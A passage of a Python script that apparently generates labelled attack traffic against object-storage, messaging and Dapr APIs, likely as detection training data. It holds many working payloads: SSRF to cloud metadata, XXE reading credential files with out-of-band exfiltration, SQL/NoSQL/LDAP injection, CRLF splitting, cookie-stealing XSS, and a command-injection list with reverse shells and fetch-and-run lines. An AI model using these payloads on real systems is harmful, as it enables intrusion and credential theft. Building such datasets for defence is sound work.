            body = jdump({"type": "url", "settings": {"url": url}})
            attack("ssrf", "es-url-repository", "PUT", "/_snapshot/%s" % pick(["ro_repo", "legacy", "mirror"]),
                   api_headers(pick(ES), "application/json", auth=basic("elastic", hexs(12)), ua="curl/8.5.0"), body)
        elif point == "import-fetch":
            host = pick(["files.corp.example.net", "ingest-api.data.svc.cluster.local:8080"])
            if R.random() < 0.5:
                body = jdump({"bucket": pick(BUCKETS), "key": "imports/%s.bin" % hexs(6), "source_url": url})
                attack("ssrf", "import-from-url", "POST", "/api/v1/imports", api_headers(host, "application/json", auth=bearer()), body)
            else:
                attack("ssrf", "fetch-url-param", "GET", "/api/v1/fetch?bucket=%s&url=%s" % (pick(BUCKETS), q(url, safe=":/")),
                       api_headers(host, auth=bearer()))
        elif point == "dapr-invoke":
            tgt = pick(["http://169.254.169.254", "http%3A%2F%2F169.254.169.254", "http://metadata.google.internal",
                        "http://127.0.0.1:10255"])
            uri = "/v1.0/invoke/%s/method/%s" % (tgt, pick(["latest/meta-data/iam/security-credentials/", "computeMetadata/v1/?recursive=true", "pods"]))
            attack("ssrf", "dapr-invoke-external", "GET", uri, api_headers(pick(DAPR), ua="axios/1.6.8"))
        elif point == "pulsar-function-url":
            bnd = "----WebKitFormBoundary" + hexs(16)
            fc = jdump({"tenant": "public", "namespace": "default", "name": "f" + hexs(4), "className": "Exclamation",
                        "inputs": ["persistent://public/default/in"], "runtime": "JAVA"})
            body = ("--%s\r\nContent-Disposition: form-data; name=\"url\"\r\n\r\n%s\r\n--%s\r\nContent-Disposition: form-data; name=\"functionConfig\"\r\n"
                    "Content-Type: application/json\r\n\r\n%s\r\n--%s--\r\n") % (bnd, urllib.parse.unquote(url), bnd, fc, bnd)
            attack("ssrf", "pulsar-function-package-url", "POST", "/admin/v3/functions/public/default/f%s" % hexs(4),
                   api_headers(pick(PULSAR), "multipart/form-data; boundary=%s" % bnd, auth=bearer(), ua="pulsarctl/v3.0"), body)
        elif point == "tier-endpoint":
            body = jdump({"type": "s3", "s3": {"name": "WARM" + hexs(3).upper(), "endpoint": url, "bucket": "tier", "prefix": "",
                                               "region": "", "accesskey": "x", "secretkey": "y", "storageclass": ""}})
            attack("ssrf", "tier-endpoint", "POST", "/api/v1/admin/tiers", browser_headers(pick(CONSOLE_HOSTS), "/tiers/add", True,
                                                                                          ctype="application/json"), body)
        elif point == "thumbnail-src":
            host = "thumbnailer.media.svc.cluster.local:8080"
            attack("ssrf", "thumbnail-source", "GET", "/resize?w=%d&src=%s" % (pick([64, 128, 256]), enc_some(url, "&?#%") if R.random() < 0.5 else q(url)),
                   [["Host", host], ["User-Agent", pick(UA_BROWSER)], ["Accept", "image/avif,image/webp,*/*"]])
        else:
            body = jdump({"name": "sub-%s" % hexs(4), "filter": {"type": "io.minio.s3.objectcreated"}, "sink": {"uri": url}})
            attack("ssrf", "event-subscription-sink", "POST", "/api/v1/namespaces/%s/subscriptions" % pick(["media", "default"]),
                   api_headers("event-router.knative-eventing.svc.cluster.local:8080", "application/json", auth=bearer()), body)


# ---------------------------------------------------------------------------
# xxe: external entities in S3 XML documents
# ---------------------------------------------------------------------------

def xxe_payload(i, root):
    k = i % 13
    if k == 0:
        return '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE %s [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' % root, "&xxe;"
    if k == 1:
        return '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY %% dtd SYSTEM "http://203.0.113.77:8000/evil.dtd"> %%dtd;]>', "x"
    if k == 2:
        return ('<?xml version="1.0"?>\n<!DOCTYPE d [\n  <!ENTITY % file SYSTEM "file:///proc/self/environ">\n'
                '  <!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://oast.example.org/?d=%file;\'>">\n  %eval;\n  %exfil;\n]>'), "y"
    if k == 3:
        return '<!DOCTYPE %s [ <!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/" > ]>' % root, "&meta;"
    if k == 4:
        return '<?xml version="1.0"?><!DOCTYPE %s PUBLIC "-//S3//DTD Upload//EN" "http://203.0.113.77/s3.dtd">' % root, "1"
    if k == 5:
        return ('<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
                '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">'
                '<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">]>'), "&lol5;"
    if k == 6:
        return '<?xml version="1.0"?>', '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///var/run/secrets/kubernetes.io/serviceaccount/token"/>'
    if k == 7:
        return '<!DOCTYPE %s [<!ENTITY b SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]>' % root, "&b;"
    if k == 8:
        return "<?xml version='1.0'?><!doctype %s [<!entity x system 'file:///c:/windows/win.ini'>]>" % root, "&x;"
    if k == 9:
        return '<?xml version="1.0"?>\n<!DOCTYPE   %s   [\n\t<!ENTITY\n\tsec\tSYSTEM\n\t"file:///root/.aws/credentials"\t>\n]>' % root, "&sec;"
    if k == 10:
        return '<?xml version="1.0"?><!DOCTYPE %s [<!ENTITY e SYSTEM "expect://id">]>' % root, "&e;"
    if k == 11:
        return '<?xml version="1.0"?><!DOCTYPE %s SYSTEM "gopher://127.0.0.1:25/xHELO%%20x">' % root, "2"
    return '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE %s [<!ENTITY %% a SYSTEM "netdoc:///etc/shadow"><!ENTITY %% b "<!ENTITY c SYSTEM \'jar:http://203.0.113.77/x.zip!/a\'>">%%b;]>' % root, "&c;"


def gen_xxe(n):
    docs = ["complete", "lifecycle", "cors", "select", "delete", "tagging", "notification"]
    for i in range(n):
        doc = docs[i % len(docs)]
        bucket = pick(BUCKETS)
        host = pick(S3_HOSTS)
        ns = ' xmlns="http://s3.amazonaws.com/doc/2006-03-01/"'
        if doc == "complete":
            prolog, ent = xxe_payload(i, "CompleteMultipartUpload")
            body = prolog + "\n<CompleteMultipartUpload%s><Part><ETag>%s</ETag><PartNumber>1</PartNumber></Part></CompleteMultipartUpload>" % (ns, ent)
            h, p = s3_loc(bucket, rand_key(), host)
            attack("xxe", "complete-multipart-xxe", "POST", p + "?uploadId=%s" % q(b64(uuid4()).rstrip("=")),
                   s3_headers(pick(["gov2", "boto3", "minio"]), h, body=body, ctype="application/xml"), body)
        elif doc == "lifecycle":
            prolog, ent = xxe_payload(i, "LifecycleConfiguration")
            body = prolog + "<LifecycleConfiguration%s><Rule><ID>%s</ID><Filter><Prefix>logs/</Prefix></Filter><Status>Enabled</Status><Expiration><Days>30</Days></Expiration></Rule></LifecycleConfiguration>" % (ns, ent)
            h, p = s3_loc(bucket, None, host)
            attack("xxe", "lifecycle-xxe", "PUT", p + "?lifecycle=", s3_headers("boto3", h, body=body, ctype="application/xml",
                                                                                   extra=[["Content-MD5", md5b64(body)]]), body)
        elif doc == "cors":
            prolog, ent = xxe_payload(i, "CORSConfiguration")
            body = prolog + "<CORSConfiguration%s><CORSRule><AllowedOrigin>%s</AllowedOrigin><AllowedMethod>GET</AllowedMethod></CORSRule></CORSConfiguration>" % (ns, ent)
            h, p = s3_loc(bucket, None, host)
            attack("xxe", "cors-xxe", "PUT", p + "?cors=", s3_headers("cli", h, body=body, ctype="application/xml"), body)
        elif doc == "select":
            prolog, ent = xxe_payload(i, "SelectObjectContentRequest")
            body = prolog + ("<SelectObjectContentRequest%s><Expression>SELECT * FROM S3Object s WHERE s.id = '%s'</Expression><ExpressionType>SQL</ExpressionType>"
                             "<InputSerialization><CSV/></InputSerialization><OutputSerialization><JSON/></OutputSerialization></SelectObjectContentRequest>") % (ns, ent)
            h, p = s3_loc(bucket, "exports/data.csv", host)
            attack("xxe", "select-xxe", "POST", p + "?select=&select-type=2", s3_headers("minio", h, body=body, ctype="application/xml"), body)
        elif doc == "delete":
            prolog, ent = xxe_payload(i, "Delete")
            body = prolog + "<Delete%s><Object><Key>%s</Key></Object><Quiet>false</Quiet></Delete>" % (ns, ent)
            h, p = s3_loc(bucket, None, host)
            attack("xxe", "delete-objects-xxe", "POST", p + "?delete=", s3_headers("gov2", h, body=body, ctype="application/xml",
                                                                                    extra=[["Content-MD5", md5b64(body)]]), body)
        elif doc == "tagging":
            prolog, ent = xxe_payload(i, "Tagging")
            body = prolog + "<Tagging%s><TagSet><Tag><Key>owner</Key><Value>%s</Value></Tag></TagSet></Tagging>" % (ns, ent)
            h, p = s3_loc(bucket, rand_key(), host)
            attack("xxe", "tagging-xxe", "PUT", p + "?tagging=", s3_headers("mc", h, body=body, ctype="application/xml"), body)
        else:
            prolog, ent = xxe_payload(i, "NotificationConfiguration")
            body = prolog + "<NotificationConfiguration%s><QueueConfiguration><Id>%s</Id><Queue>arn:minio:sqs::primary:webhook</Queue><Event>s3:ObjectCreated:*</Event></QueueConfiguration></NotificationConfiguration>" % (ns, ent)
            h, p = s3_loc(bucket, None, host)
            attack("xxe", "notification-xxe", "PUT", p + "?notification=", s3_headers("mc", h, body=body, ctype="application/xml"), body)


# ---------------------------------------------------------------------------
# sqli: S3 Select query builders, catalog / search services, tenant headers
# ---------------------------------------------------------------------------

SQLI = [
    "x' OR '1'='1",
    "1' OR 1=1-- -",
    "' UNION SELECT NULL,username,password FROM users--",
    "1 AND SLEEP(5)",
    "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
    "'; WAITFOR DELAY '0:0:5'--",
    "1;SELECT pg_sleep(5)--",
    "' UnIoN/**/SeLeCt/**/1,2,3,version()-- ",
    "1'/**/OR/**/1/**/LIKE/**/1#",
    "1 AND extractvalue(1,concat(0x7e,(select user()),0x7e))",
    "' AND 1=CONVERT(int,(SELECT @@version))--",
    "1 OR ascii(substring((select table_name from information_schema.tables limit 1),1,1))>64",
    "') OR ('a'='a",
    "admin'--",
    "1' ORDER BY 7-- -",
    "';DROP TABLE objects;--",
    "' || (SELECT CASE WHEN (1=1) THEN pg_sleep(3) ELSE pg_sleep(0) END)--",
    "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
    "-1' union all select load_file('/etc/passwd'),2-- -",
    "1'; EXEC master..xp_cmdshell 'whoami'--",
    "x' AND updatexml(1,concat(0x3a,(select database())),1)-- ",
    "1)) OR benchmark(10000000,MD5(1))#",
    "s.age > 30 UNION SELECT * FROM S3Object[*].credentials c",
    "1' AND 1=(SELECT COUNT(*) FROM sysobjects)--",
    "'%20or%201=1%23",
    "1'\tOR\t'x'='x",
    "\u02bc OR 1=1--",
    "1' || '1'='1",
    "x'/*!50000UNION*//*!50000SELECT*/1,2,3-- ",
    "1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))s), 8446744073709551610, 8446744073709551610)))",
    "name') UNION SELECT table_name,column_name FROM information_schema.columns WHERE ('1'='1",
    "1;INSERT INTO acl(user,role) VALUES('eve','admin')--",
    "' AND 1=0 UNION ALL SELECT CHR(113)||CHR(107)||CHR(120),NULL--",
    "1%27%20AND%20SLEEP%285%29%23",
    "%2527%2520OR%25201%253D1--",
]


def sqli_in_query(v):
    """How a payload appears in a query string: encoded by a client, '+'-spaced, or left partly raw."""
    if re.search(r"%[0-9A-Fa-f]{2}", v):
        return v.replace(" ", "%20")          # already (double) encoded by the attacker
    style = R.randrange(3)
    if style == 0:
        return q(v)
    if style == 1:
        return q(v).replace("%20", "+")
    return v.replace(" ", "%20").replace("#", "%23").replace("&", "%26").replace("\t", "%09").replace("+", "%2B")


def gen_sqli(n):
    points = ["select-wrapper-where", "select-wrapper-json", "catalog-search", "catalog-sort", "lakefs-ls", "tenant-header",
              "dapr-pg-query-key", "audit-filter", "select-wrapper-column", "object-owner"]
    for i in range(n):
        pl = SQLI[i % len(SQLI)]
        point = points[i % len(points)]
        bucket = pick(BUCKETS)
        if point == "select-wrapper-where":
            host = "reports-api.analytics.svc.cluster.local:8080"
            if pl.startswith("'") or pl.startswith("%"):
                param, val = "country", "DE" + pl
            elif pl[0].isdigit() or pl.startswith("-"):
                param, val = "min_age", pl
            else:
                param, val = "name", pl
            uri = "/api/v1/reports/query?bucket=%s&key=%s&%s=%s" % (bucket, q("exports/customers-2024-05.csv"), param, sqli_in_query(val))
            attack("sqli", "s3-select-wrapper-param", "GET", uri, api_headers(host, auth=bearer(), ua=pick(UA_BROWSER)))
        elif point == "select-wrapper-json":
            host = "reports-api.analytics.svc.cluster.local:8080"
            body = jdump({"bucket": bucket, "key": "warehouse/orders/part-0001.csv.gz", "filters": {"status": pl}, "limit": 100})
            attack("sqli", "s3-select-wrapper-json", "POST", "/api/v1/reports/select", api_headers(host, "application/json", auth=bearer()), body)
        elif point == "catalog-search":
            host = pick(["files.corp.example.net", "catalog.data.svc.cluster.local:8080"])
            attack("sqli", "object-catalog-search", "GET", "/api/v1/objects/search?bucket=%s&q=%s&page=1" % (bucket, sqli_in_query(pl)),
                   browser_headers(host, "/search", True))
        elif point == "catalog-sort":
            host = "catalog.data.svc.cluster.local:8080"
            v = pick(["size", "last_modified"]) + pick([",(select 1 from (select sleep(5))x)", " desc,(CASE WHEN (1=1) THEN name ELSE size END)",
                                                        ";SELECT pg_sleep(4)--", " LIMIT 1 UNION SELECT password FROM users"])
            if i % 2:
                v = pl
            attack("sqli", "object-catalog-sort", "GET", "/api/v1/buckets/%s/objects?sort=%s&order=asc" % (bucket, sqli_in_query(v)),
                   api_headers(host, auth=bearer()))
        elif point == "lakefs-ls":
            host = "lakefs.data.svc.cluster.local:8000"
            attack("sqli", "lakefs-prefix", "GET", "/api/v1/repositories/%s/refs/main/objects/ls?prefix=%s&amount=100" % (
                pick(["warehouse", "ml-data"]), sqli_in_query("raw/" + pl)), api_headers(host, auth=basic("AKIAJ" + hexs(12).upper(), hexs(20))))
        elif point == "tenant-header":
            host = pick(S3_HOSTS)
            h, p = s3_loc(bucket, rand_key(), host)
            hdrs = s3_headers("gov2", h)
            hdrs.append([pick(["X-Tenant-Id", "X-Org-Id", "X-Account"]), "acme" + pl])
            attack("sqli", "tenant-header", "GET", p, hdrs)
        elif point == "dapr-pg-query-key":
            body = jdump({"filter": {"EQ": {"value->>'owner') = 'x' OR 1=1 OR ('a": "b"}} if i % 2 else {"EQ": {"owner": pl}},
                          "page": {"limit": 10}})
            attack("sqli", "dapr-state-query-sql", "POST", "/v1.0-alpha1/state/pg-state/query", api_headers(pick(DAPR), "application/json",
                                                                                                           ua="axios/1.6.8"), body)
        elif point == "audit-filter":
            host = "audit-api.storage.svc.cluster.local:8080"
            attack("sqli", "bucket-audit-filter", "GET", "/api/v1/audit?bucket=%s&user=%s&from=2024-05-01" % (bucket, sqli_in_query(pl)),
                   api_headers(host, auth=bearer(), ua=pick(UA_BROWSER)))
        elif point == "select-wrapper-column":
            host = "reports-api.analytics.svc.cluster.local:8080"
            v = pick(["s.name,s.email", "s.id"]) + pick([" FROM S3Object s UNION SELECT * FROM S3Object[*] --", ",(SELECT 1)--"]) if i % 3 else pl
            attack("sqli", "s3-select-wrapper-columns", "GET", "/api/v1/reports/query?bucket=%s&key=data.csv&columns=%s" % (bucket, sqli_in_query(v)),
                   api_headers(host, auth=bearer()))
        else:
            host = "catalog.data.svc.cluster.local:8080"
            body = "bucket=%s&owner=%s&action=list" % (bucket, sqli_in_query(pl))
            attack("sqli", "catalog-owner-form", "POST", "/catalog/list", browser_headers(host, "/catalog", False,
                                                                                         ctype="application/x-www-form-urlencoded"), body)


# ---------------------------------------------------------------------------
# nosqli: operator injection into Dapr / Mongo-backed state and catalog APIs
# ---------------------------------------------------------------------------

def gen_nosqli(n):
    cases = [
        ("dapr-query-ne", "POST", "/v1.0-alpha1/state/mongo-state/query", {"filter": {"EQ": {"owner": {"$ne": None}}}, "page": {"limit": 1000}}),
        ("dapr-query-regex", "POST", "/v1.0-alpha1/state/mongo-state/query", {"filter": {"EQ": {"value.apiKey": {"$regex": "^.*"}}}}),
        ("dapr-query-where", "POST", "/v1.0-alpha1/state/mongo-state/query", {"filter": {"EQ": {"$where": "sleep(5000) || true"}}}),
        ("app-state-login", "POST", "/api/v1/login", {"username": {"$gt": ""}, "password": {"$gt": ""}}),
        ("app-state-login-ne", "POST", "/api/v1/login", {"username": "admin", "password": {"$ne": "x"}}),
        ("app-share-lookup", "POST", "/api/v1/shares/lookup", {"token": {"$exists": True}, "bucket": "customer-exports"}),
        ("app-share-where-js", "POST", "/api/v1/shares/lookup", {"$where": "this.token.length > 0 && this.bucket == 'customer-exports'"}),
        ("app-objects-expr", "POST", "/api/v1/objects/query", {"filter": {"$expr": {"$function": {"body": "function(){return require('child_process')}",
                                                                                                  "args": [], "lang": "js"}}}}),
        ("app-objects-or", "POST", "/api/v1/objects/query", {"filter": {"$or": [{"owner": "eve"}, {"owner": {"$nin": []}}]}}),
        ("app-objects-lookup", "POST", "/api/v1/objects/aggregate", {"pipeline": [{"$lookup": {"from": "users", "localField": "owner",
                                                                                               "foreignField": "_id", "as": "u"}}, {"$project": {"u.passwordHash": 1}}]}),
    ]
    qcases = [
        ("/api/v1/objects?bucket={b}&owner[$ne]=nobody" , "query-ne"),
        ("/api/v1/objects?bucket={b}&owner%5B%24regex%5D=.%2A", "query-regex-encoded"),
        ("/api/v1/shares?bucket={b}&token[$gt]=&expires[$lt]=9999999999", "query-gt"),
        ("/api/v1/objects?bucket={b}&filter=" + q(jdump({"owner": {"$ne": None}, "$where": "1==1"})), "query-json-filter"),
        ("/api/v1/sessions?user=admin&password[%24ne]=1&bucket={b}", "query-partial-encoded"),
        ("/api/v1/objects?bucket={b}&q=" + q("'; return true; var x='"), "query-js-injection"),
        ("/api/v1/objects?bucket={b}&tags[$in][]=public&tags[$in][]=private&owner[$exists]=false", "query-in-exists"),
    ]
    i = 0
    while i < n:
        if i % 2 == 0 and i // 2 < len(cases):
            name, method, path, obj = cases[i // 2]
            host = pick(DAPR) if path.startswith("/v1.0") else pick(["files.corp.example.net", "share-service.storage.svc.cluster.local:8080"])
            body = jdump(obj)
            attack("nosqli", name, method, path, api_headers(host, "application/json", auth=None if path.startswith("/v1.0") else bearer(),
                                                               ua=pick(["axios/1.6.8", "python-requests/2.31.0", "Go-http-client/1.1"])), body)
        else:
            tmpl, name = qcases[(i // 2) % len(qcases)]
            host = pick(["files.corp.example.net", "share-service.storage.svc.cluster.local:8080"])
            attack("nosqli", name, "GET", tmpl.replace("{b}", pick(BUCKETS)), browser_headers(host, "/files", True))
        i += 1


# ---------------------------------------------------------------------------
# ldapi: LDAP filter injection in MinIO LDAP identity lookups
# ---------------------------------------------------------------------------

LDAPI = ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectClass=*)", "jdoe)(|(memberOf=cn=consoleAdmin,ou=groups,dc=corp,dc=example,dc=net))",
         "*)(userPassword=*)", "admin)(!(&(1=0", "*))%00", "x)(|(cn=*)(mail=*))", "%2a%29%28%7c%28cn%3d%2a%29%28memberOf%3d%2a%29%29",
         "*)(&(objectClass=person)(uid=a*"]


def gen_ldapi(n):
    for i in range(n):
        pl = LDAPI[i % len(LDAPI)]
        enc = pl if "%" in pl else q(pl)
        k = i % 4
        host = pick(S3_HOSTS[:3])
        if k == 0:
            body = "Action=AssumeRoleWithLDAPIdentity&LDAPUsername=%s&LDAPPassword=%s&Version=2011-06-15&DurationSeconds=3600" % (enc, q("x"))
            attack("ldapi", "sts-ldap-username", "POST", "/", [["Host", host], ["User-Agent", pick(UA_MC + ["python-requests/2.31.0"])],
                                                             ["Content-Type", "application/x-www-form-urlencoded"], ["Accept-Encoding", "gzip"]], body)
        elif k == 1:
            attack("ldapi", "admin-ldap-policy-entities", "GET", "/minio/admin/v3/idp/ldap/policy-entities?user=%s" % enc, madmin_headers(host))
        elif k == 2:
            body = jdump({"accessKey": urllib.parse.unquote(pl), "secretKey": "irrelevant"})
            attack("ldapi", "console-ldap-login", "POST", "/api/v1/login", browser_headers(pick(CONSOLE_HOSTS), "/login", True, cookie="",
                                                                                          ctype="application/json"), body)
        else:
            attack("ldapi", "console-user-lookup", "GET", "/api/v1/ldap-entities?users=%s" % enc, browser_headers(pick(CONSOLE_HOSTS),
                                                                                                              "/identity/users", True))


# ---------------------------------------------------------------------------
# crlf: response-* override parameters, keys, redirects
# ---------------------------------------------------------------------------

CRLF_SEQ = ["%0d%0a", "%0D%0A", "%0a", "%0d", "%E5%98%8A%E5%98%8D", "%250d%250a", "%u000d%u000a", "%0d%0a%09", "%0a%20", "%c4%8d%c4%8a"]
CRLF_TAIL = ["Set-Cookie:%20session=attacker", "Location:%20https://evil.example.org/", "X-XSS-Protection:%200",
             "%0d%0a<script>alert(document.domain)</script>", "Content-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK",
             "Access-Control-Allow-Origin:%20*"]


def gen_crlf(n):
    for i in range(n):
        seq = CRLF_SEQ[i % len(CRLF_SEQ)]
        tail = CRLF_TAIL[(i * 5) % len(CRLF_TAIL)]
        if tail.startswith("%0d%0a<") and seq not in ("%0d%0a", "%0D%0A"):
            tail = seq + "<script>alert(document.domain)</script>"
        bucket = pick(BUCKETS)
        k = i % 5
        if k == 0:
            h, p = s3_loc(bucket, rand_key())
            date = amz_date()
            uri = p + "?response-content-disposition=attachment%%3B%%20filename%%3Dreport.pdf%s%s&X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=%s&X-Amz-Date=%s&X-Amz-Expires=900&X-Amz-SignedHeaders=host&X-Amz-Signature=%s" % (
                seq, tail, q("%s/%s/us-east-1/s3/aws4_request" % (pick(ACCESS_KEYS), date[:8])), date, hexs(64))
            attack("crlf", "presigned-content-disposition", "GET", uri, [["Host", h], ["User-Agent", pick(UA_BROWSER)], ["Accept", "*/*"]])
        elif k == 1:
            h, p = s3_loc(bucket, rand_key())
            uri = p + "?response-content-type=text/html%s%s" % (seq, tail)
            attack("crlf", "response-content-type", "GET", uri, s3_headers(pick(["boto3", "gov2"]), h))
        elif k == 2:
            h, p = s3_loc(bucket, rand_key())
            uri = p + "?response-cache-control=no-cache%s%s&response-expires=0" % (seq, tail)
            attack("crlf", "response-cache-control", "GET", uri, s3_headers("minio", h))
        elif k == 3:
            h = pick(S3_HOSTS)
            uri = "/%s/index.html%s%s" % (bucket, seq, tail)
            attack("crlf", "key-header-split", "GET", uri, [["Host", h], ["User-Agent", pick(UA_BROWSER)], ["Accept", "text/html"]])
        else:
            h = pick(CONSOLE_HOSTS)
            uri = "/api/v1/login/oauth2/auth?state=%s&code=%s&redirect=%s" % (hexs(16), hexs(20), q("/browser") + seq + tail)
            attack("crlf", "console-redirect", "GET", uri, browser_headers(h, "/login", False))


# ---------------------------------------------------------------------------
# xss: metadata, keys, queue / topic names, message payloads, event attributes
# ---------------------------------------------------------------------------

XSS = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//203.0.113.5/c?'+document.cookie)>",
    "<ScRiPt>confirm`1`</sCrIpT>",
    "<img src=x oNeRrOr=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<a href=\"jav&#x09;ascript:alert(1)\">open</a>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=confirm(document.domain)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "\"><script src=//xss.example.org/x.js></script>",
    "'-alert(1)-'",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=\"javascript:alert(1)\">",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "</textarea><script>new Image().src='//203.0.113.5/?'+localStorage.token</script>",
    "<marquee onstart=alert(1)>",
    "\u003cimg src=1 onerror=alert(1)\u003e",
    "<svg><script xlink:href=data:,alert(1) />",
]


def gen_xss(n):
    points = ["meta-header", "key-path", "rabbit-queue-name", "rabbit-payload", "kafka-value", "ce-header", "console-prefix",
              "pulsar-subscription", "schema-doc", "tagging-cdata", "website-redirect", "dapr-state-value"]
    for i in range(n):
        pl = XSS[(i * 5 + i // 24) % len(XSS)]
        point = points[i % len(points)]
        bucket = pick(BUCKETS)
        if point == "meta-header":
            body = small_body("txt")
            h, p = s3_loc(bucket, "uploads/%s.txt" % hexs(6))
            hdrs = s3_headers(pick(["gov2", "boto3", "mc"]), h, body=body, ctype="text/plain",
                              extra=[[pick(["x-amz-meta-description", "x-amz-meta-title", "x-amz-meta-author"]), pl]])
            attack("xss", "object-metadata", "PUT", p, hdrs, body)
        elif point == "key-path":
            h = pick(S3_HOSTS)
            key = "uploads/" + pl + ".png"
            uri = "/%s/%s" % (bucket, qkey(key) if i % 2 else key.replace(" ", "%20").replace('"', "%22").replace("?", "%3F").replace("#", "%23"))
            attack("xss", "object-key", "PUT", uri, s3_headers("minio", h, body="x", ctype="image/png"), "x")
        elif point == "rabbit-queue-name":
            body = jdump({"durable": True, "auto_delete": False, "arguments": {}})
            attack("xss", "rabbit-queue-name", "PUT", "/api/queues/%%2F/%s" % q(pl, safe=""), rabbit_headers(pick(RABBIT), "application/json"), body)
        elif point == "rabbit-payload":
            body = jdump({"properties": {"content_type": "text/html"}, "routing_key": pick(QUEUES), "payload": pl, "payload_encoding": "string"})
            attack("xss", "rabbit-message-payload", "POST", "/api/exchanges/%s/amq.default/publish" % pick(VHOSTS),
                   rabbit_headers(pick(RABBIT), "application/json"), body)
        elif point == "kafka-value":
            body = jdump({"records": [{"key": pl if i % 3 == 0 else uuid4(), "value": {"room": "#general", "from": pick(FIRST), "text": pl}}]})
            attack("xss", "kafka-record-value", "POST", "/topics/chat-messages",
                   api_headers(pick(KAFKA_REST), "application/vnd.kafka.json.v2+json", "application/vnd.kafka.v2+json"), body)
        elif point == "ce-header":
            body = jdump(kafka_value())
            hdrs = [["Host", pick(KN_BROKERS)], ["User-Agent", "Go-http-client/1.1"], ["Content-Type", "application/json"],
                    ["Ce-Id", uuid4()], ["Ce-Source", pick(["//orders-api", pl])], ["Ce-Specversion", "1.0"],
                    ["Ce-Type", "com.example.order.created"], ["Ce-Subject", pl]]
            attack("xss", "cloudevent-attribute", "POST", "/orders/default", hdrs, body)
        elif point == "console-prefix":
            attack("xss", "console-reflected", "GET", "/browser/%s?prefix=%s" % (bucket, pick([q(pl), enc_all(pl)] + ([pl.replace(" ", "%20")] if not any(c in pl for c in "&#?") else []))),
                   browser_headers(pick(CONSOLE_HOSTS), "/browser", False))
        elif point == "pulsar-subscription":
            attack("xss", "pulsar-subscription-name", "PUT", "/admin/v2/persistent/public/default/orders/subscription/%s" % q(pl, safe=""),
                   api_headers(pick(PULSAR), "application/json", auth=bearer()), "{}")
        elif point == "schema-doc":
            ct = "application/vnd.schemaregistry.v1+json"
            schema = jdump({"type": "record", "name": "Order", "doc": pl, "fields": [{"name": "id", "type": "string", "doc": pl}]})
            attack("xss", "schema-doc", "POST", "/subjects/orders-value/versions", api_headers(pick(SCHEMA_REG), ct, ct), jdump({"schema": schema}))
        elif point == "tagging-cdata":
            body = '<Tagging xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><TagSet><Tag><Key>label</Key><Value><![CDATA[%s]]></Value></Tag></TagSet></Tagging>' % pl
            h, p = s3_loc(bucket, rand_key())
            attack("xss", "object-tag-value", "PUT", p + "?tagging=", s3_headers("boto3", h, body=body, ctype="application/xml"), body)
        elif point == "website-redirect":
            h, p = s3_loc(bucket, "index.html")
            tgt = pick(["javascript:alert(document.domain)", "JaVaScRiPt:eval(atob('YWxlcnQoMSk='))", "java\tscript:alert(1)",
                        "data:text/html,<script>alert(1)</script>"])
            attack("xss", "website-redirect-location", "PUT", p, s3_headers("cli", h, body="", ctype="text/html",
                                                                              extra=[["x-amz-website-redirect-location", tgt]]), "")
        else:
            body = jdump([{"key": "profile-%s" % hexs(6), "value": {"displayName": pl, "bio": "hi"}}])
            attack("xss", "dapr-state-value", "POST", "/v1.0/state/statestore", api_headers(pick(DAPR), "application/json", ua="axios/1.6.8"), body)


# ---------------------------------------------------------------------------
# rce: command injection into converters, backup hooks, file names
# ---------------------------------------------------------------------------

RCE = [
    "; id",
    "| id",
    "`id`",
    "$(id)",
    "&& cat /etc/passwd",
    "%0aid",
    ";cat${IFS}/etc/passwd",
    ";c''at /e''tc/pa''sswd",
    "|\\w\\h\\o\\a\\m\\i",
    "$(echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUvcy5zaHxzaA==|base64 -d|sh)",
    "|| wget -qO- http://203.0.113.5/x | bash",
    "; bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
    "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.66\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
    "& ping -n 3 203.0.113.5 &",
